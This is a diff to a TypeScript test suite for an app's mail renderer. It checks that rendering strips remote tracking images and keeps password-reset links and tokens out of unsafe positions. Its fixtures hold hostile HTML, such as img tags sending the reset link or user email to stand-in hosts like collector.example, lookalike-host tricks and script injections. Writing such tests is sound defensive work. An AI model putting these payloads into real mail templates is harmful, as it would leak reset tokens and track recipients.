@@ -1,6 +1,6 @@
 import { createServer } from 'node:net';
 import { Writable } from 'node:stream';
-import { mailTemplateNames } from '@carte/domain';
+import { mailTemplateNames, messages } from '@carte/domain';
 import { eq, sql } from 'drizzle-orm';
 import { PgBoss } from 'pg-boss';
 import pino from 'pino';
@@ -8,7 +8,8 @@ import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
 import type { Logger } from '../src/adapters/logger.ts';
 import { createMailTransport, type MailTransport } from '../src/adapters/mail/index.ts';
 import { type Database, openDatabase } from '../src/db/connect.ts';
-import { mails, mailTemplates } from '../src/db/schema.ts';
+import { newId } from '../src/db/ids.ts';
+import { mails, mailTemplates, users } from '../src/db/schema.ts';
 import { defaultMailTemplates } from '../src/features/mail/default-templates.ts';
 import {
   createMailer,
@@ -20,7 +21,7 @@ import {
   startMailWorker,
   updateMailTemplate,
 } from '../src/features/mail/mail.service.ts';
-import { htmlToText, renderMail } from '../src/features/mail/mail-render.ts';
+import { checkMailTemplate, htmlToText, renderMail } from '../src/features/mail/mail-render.ts';
 import { createTestDatabaseUrl } from './db.ts';
 import { type MailSink, startMailSink } from './mail-sink.ts';
 
@@ -129,14 +130,15 @@ describe('renderMail', () => {
           '<a href="javascript:alert(2)">bad</a><img src="https://cdn.test/logo.png" alt="Logo" onerror="x()">' +
           '<table><tr><td style="padding:4px">cell</td></tr></table><iframe src="https://evil.test"></iframe>',
       },
-      { link: 'https://carte.test/reset-password?token=a&b=1' },
+      { link: 'https://carte.test/reset-password?token=a&b=1', publicUrl: 'https://carte.test' },
     );
     const body = rendered.html;
     expect(body).not.toMatch(/<script|alert\(|onclick|onerror|javascript:|<iframe|url\(/i);
     expect(body).toContain('<strong>there</strong>');
     expect(body).toContain('style="color:#ff1616"');
     expect(body).toContain('href="https://carte.test/reset-password?token=a&amp;b=1"');
-    expect(body).toContain('<img src="https://cdn.test/logo.png" alt="Logo" />');
+    // A remote image tells its host who opened the mail: it goes (issue 20).
+    expect(body).not.toContain('cdn.test');
     expect(body).toContain('<td style="padding:4px">cell</td>');
     expect(rendered.text).toContain('Go (https://carte.test/reset-password?token=a&b=1)');
   });
@@ -158,6 +160,87 @@ describe('renderMail', () => {
     expect(rendered.text).toContain('Verify my email (http://carte.test/user-verify-account?token=t0k)');
     expect(rendered.text).toContain('This link is valid for 24 hours.');
     expect(rendered.text).not.toMatch(/<|&amp;|\{\{/);
+  });
+
+  it('keeps images from Carte’s own site or inside the mail, and no other', () => {
+    const rendered = renderMail(
+      {
+        subject: 'x',
+        content:
+          '<img src="{{publicUrl}}/logo.png" alt="own"><img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">' +
+          '<img src="cid:logo" alt="cid"><img src="https://carte.test.evil.example/p.gif" alt="lookalike">' +
+          '<img src="https://carte.test@evil.example/p.gif" alt="userinfo"><img src="//evil.example/p.gif">' +
+          '<img src="https://evil.example/p.gif?u={{user.email}}" alt="remote">',
+      },
+      { publicUrl: 'https://carte.test', 'user.email': 'ann@example.com' },
+    );
+    expect(rendered.html).toContain('<img src="https://carte.test/logo.png" alt="own" />');
+    expect(rendered.html).toContain('alt="inline"');
+    expect(rendered.html).toContain('<img src="cid:logo" alt="cid" />');
+    expect(rendered.html).not.toMatch(/evil\.example|lookalike|userinfo|alt="remote"/);
+  });
+
+  describe('secret placeholders (issue 20)', () => {
+    const secretVars = {
+      publicUrl: 'https://carte.test',
+      link: 'https://carte.test/reset-password?token=S3CR3T',
+      token: 'S3CR3T',
+      'user.firstName': 'Ann',
+    };
+    const misplaced = [
+      '<img src="https://collector.example/p.gif?t={{link}}">',
+      '<img src="{{link}}">',
+      '<p title="{{link}}">Hi</p>',
+      '<a href="{{link}}" title="{{link}}">Reset</a>',
+      '<a href="https://collector.example/?next={{link}}">Reset</a>',
+      '<a href="{{link}}&amp;x=1">Reset</a>',
+      '<p>Your token: {{token}}</p>',
+      '<p>Copy {{ link }}</p>',
+      '<a href="{{token}}">Reset</a>',
+      '<p style="color:{{link}}">x</p>',
+      '<script>{{link}}</script>',
+      '<a href="{{publicUrl}}">{{link}}</a>',
+      '<a href="https://collector.example/">{{user.firstName|link}}</a>',
+    ];
+
+    it.each(misplaced)('refuses and renders no secret for %s', (content) => {
+      expect(checkMailTemplate({ subject: 'x', content })).toMatch(
+        /^The placeholder \{\{(link|token)\}\} may only be the whole address of a link\.$/,
+      );
+      const rendered = renderMail({ subject: 'x', content }, secretVars);
+      // The secret may stand only as the whole address of a link to Carte's own page.
+      const ownLink = 'https://carte.test/reset-password?token=S3CR3T';
+      expect(rendered.html.replaceAll(`<a href="${ownLink}">`, '')).not.toContain('S3CR3T');
+      expect(rendered.text.replaceAll(`(${ownLink})`, '')).not.toContain('S3CR3T');
+      expect(rendered.html).not.toMatch(/<img[^>]*collector/);
+    });
+
+    it('keeps the whole href of a link to Carte’s own site, and that link’s own text', () => {
+      const content =
+        '<a href="{{link}}">Choose a new password</a><p><a href="{{ link }}">{{ link }}</a></p>' +
+        '<a href="{{link|publicUrl}}">Open</a>';
+      expect(checkMailTemplate({ subject: 'Reset {{user.firstName}}', content })).toBeNull();
+      const rendered = renderMail({ subject: 'x', content }, secretVars);
+      expect(rendered.html).toContain('<a href="https://carte.test/reset-password?token=S3CR3T">Choose');
+      expect(rendered.text).toContain('https://carte.test/reset-password?token=S3CR3T\n');
+      for (const template of Object.values(defaultMailTemplates))
+        expect(checkMailTemplate(template)).toBeNull();
+    });
+
+    it('drops a secret link that does not point to Carte’s own site', () => {
+      const rendered = renderMail(
+        { subject: 'x', content: '<a href="{{link}}">Open</a>' },
+        { ...secretVars, link: 'https://collector.example/?t=S3CR3T' },
+      );
+      expect(rendered.html).not.toMatch(/S3CR3T|collector/);
+      expect(rendered.text).toContain('Open');
+    });
+
+    it('renders a secret in the subject as nothing and refuses it', () => {
+      const template = { subject: 'Reset {{link}} {{ token }} {{user.firstName}}', content: '<p>x</p>' };
+      expect(renderMail(template, secretVars).subject).toBe('Reset Ann');
+      expect(checkMailTemplate(template)).toBe(messages.mailSecretNotInSubject('{{link}}'));
+    });
   });
 
   it('turns lists, breaks and images into text', () => {
@@ -280,6 +363,68 @@ describe('templates and SMTP delivery', () => {
     const mail = await sink.waitFor((m) => m.to.includes('client@example.com'));
     expect(mail.subject).toBe('Goodbye harbour');
     expect(mail.text).toContain('Account harbour removed.');
+  });
+});
+
+describe('templates stored around the checks (issue 20)', () => {
+  let stack: Stack;
+  let sink: MailSink;
+  beforeAll(async () => {
+    sink = await startMailSink();
+    stack = await startStack(sink.url);
+  });
+  afterAll(async () => {
+    await stack?.close();
+    await sink?.close();
+  });
+
+  const link = 'http://carte.test/reset-password?token=T0KEN-2b7f';
+  const hostile =
+    '<p>Hello</p><img src="https://collector.example/p.gif?t={{link}}"><a href="https://collector.example/?{{token}}">more</a>' +
+    '<p title="{{link}}">{{token}}</p><img src="https://collector.example/open.gif"><a href="{{link}}">Reset</a>';
+
+  it('a template written straight into the database mails no secret and no remote image', async () => {
+    await stack.database.db
+      .update(mailTemplates)
+      .set({ subject: 'Reset {{link}}', content: hostile })
+      .where(eq(mailTemplates.name, 'user-forgot-password'));
+    const id = await stack.mailer.send('user-forgot-password', 'owner@example.com', {
+      link,
+      token: 'T0KEN-2b7f',
+    });
+    const mail = await sink.waitFor((m) => m.to.includes('owner@example.com'));
+    expect(mail.subject).toBe('Reset');
+    expect(mail.links).toContain(link);
+    // An ordinary link elsewhere may stay, without the secret; images from elsewhere go.
+    expect(mail.html).not.toMatch(/<img|\.gif/);
+    expect(mail.links.filter((address) => address.includes('T0KEN-2b7f'))).toEqual([link]);
+    expect(mail.html.split('T0KEN-2b7f')).toHaveLength(2); // the one link to Carte's own page
+    const row = await mailRow(stack, id);
+    expect(row?.html).not.toMatch(/<img|\.gif/);
+  });
+
+  it('a staff address gets the built-in template, an owner the edited one', async () => {
+    await stack.database.db
+      .update(mailTemplates)
+      .set({ subject: 'Edited reset', content: '<p>Edited body</p><a href="{{link}}">Reset</a>' })
+      .where(eq(mailTemplates.name, 'user-forgot-password'));
+    await stack.database.db.insert(users).values({
+      username: `staff_${process.pid}`,
+      email: 'Staff@Example.com',
+      role: 'ADMIN',
+      personId: newId(),
+    });
+    await stack.mailer.send('user-forgot-password', 'staff@example.com', { link });
+    await stack.mailer.send('user-forgot-password', 'plain-owner@example.com', { link });
+    const staff = await sink.waitFor((m) => m.to.includes('staff@example.com'));
+    expect(staff.subject).toBe(
+      defaultMailTemplates['user-forgot-password'].subject.replace('{{appName}}', 'Carte'),
+    );
+    expect(staff.text).not.toContain('Edited body');
+    expect(staff.links).toContain(link);
+    const owner = await sink.waitFor((m) => m.to.includes('plain-owner@example.com'));
+    expect(owner.subject).toBe('Edited reset');
+    expect(owner.links).toContain(link);
   });
 });
 
